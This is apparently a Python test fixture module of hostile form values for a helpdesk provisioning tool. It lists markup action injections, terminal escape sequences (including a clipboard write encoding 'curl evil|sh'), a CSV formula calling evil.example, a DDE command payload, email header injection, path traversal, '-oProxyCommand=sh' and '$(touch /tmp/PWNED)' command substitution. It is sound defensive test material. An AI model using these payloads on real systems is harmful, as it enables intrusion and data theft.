"""Hostile form values (security.md §7), one list each, for every test that feeds them in.

The TUI tests show them (they must render literally and do nothing), the provisioning run
refuses the identifiers and keeps the free text literally, and the edit-rules test checks the
form and the backend agree on each; so the lists live here, not in one of those test modules.
"""

from __future__ import annotations

# Names and free text as the TUI shows them (#1-19); `{dir}` is replaced by a test's folder.
HOSTILE = [
    "[@click=app.screenshot('x.svg','{dir}')]Bob[/]",  # 1
    "[@click=app.quit]Alice[/]",  # 2
    "[@click=app.suspend_process]x[/]",
    "[/]",  # 3
    "[/b] x",
    "[/",
    "[TODO] Eve",  # 4
    "[0] Eve",
    "[$accent]Eve",
    "[link='https://evil.example']support[/link]",  # 5
    "Eve\x1b]2;PWNED\x07",  # 6
    "Eve\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07",  # 7
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # 8
    "\x1b[2J\x1b[H",  # 9
    "\x1b[8mhidden",
    "\x1b[31mRED",
    "\x1b[?1049l",
    "\x1bP+q\x1b\\",
    "\x9b31mC1",  # 10
    "Bob\u202egnp.exe",  # 11
    "adm\u200bin",
    "\ufeffEve",
    "Eve\nApproved: yes",  # 12
    "Eve\rMallory",
    "<SETPASS_TOKEN_URL>",  # 13
    "<PROJECT>",
    "{0.__class__}",  # 14
    "{admin_pwd}",
    "%(admin_pwd)s",
    "%s%n",
    "x" * 50000,  # 15
    "[b]" * 5000 + "x",  # 16
    "",  # 17
    "   ",
    "\u00a0",
    "Eve\x00",  # 18
    "\ud800",
    "Z\u0335\u0336\u0337a\u0338lgo",  # 19
    "👩‍👩‍👧",
    "測試",
]

# Free text a provisioning run keeps literally, in Keystone, the mails and the sheet.
LITERAL_TEXT = [
    "[@click=app.screenshot('x.svg','/tmp/hd')]Bob[/]",
    "[link='https://evil.example']support[/link]",
    "<SETPASS_TOKEN_URL>",
    "{0.__class__} {admin_pwd} %(admin_pwd)s %s%n",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "Z\u0335a\u0338lgo 測試 👩",
]
# Free text beyond what a name may be (longer than 64, or with a zero-width joiner): kept
# literally in the fields that are not names.
LONG_TEXT = ["[b]" * 500 + "x", "👩\u200d👩\u200d👧 family"]

# Identifiers a provisioning run refuses, with a reason.
REFUSED_EMAILS = [
    "victim@example.org\r\nBcc: attacker@evil.example",
    "../../var/lib/helpdesk-home/.profile@example.org",
    "alice@exаmple.org",
    "-oProxyCommand=sh@x.y",
    "admin@example.org",
    '"quoted local"@x.org',
]
REFUSED_PROJECTS = [
    "admin",
    " Admin",
    "аdmin",
    "../etc",
    "p" * 65,
    "$(touch /tmp/PWNED)",
    "-c",
    "ﬁnance",
    "pr\x00oj",
]
REFUSED_PINS = ["1234\n", "١٢٣٤", "１２３４", "12345", " 1234", "0x1F"]
REFUSED_NAMES = [
    "Eve\x1b]2;PWNED\x07",
    "Bob\u202egnp.exe",
    "adm\u200bin",
    "Eve\nApproved: yes",
    "Eve\x00",
]
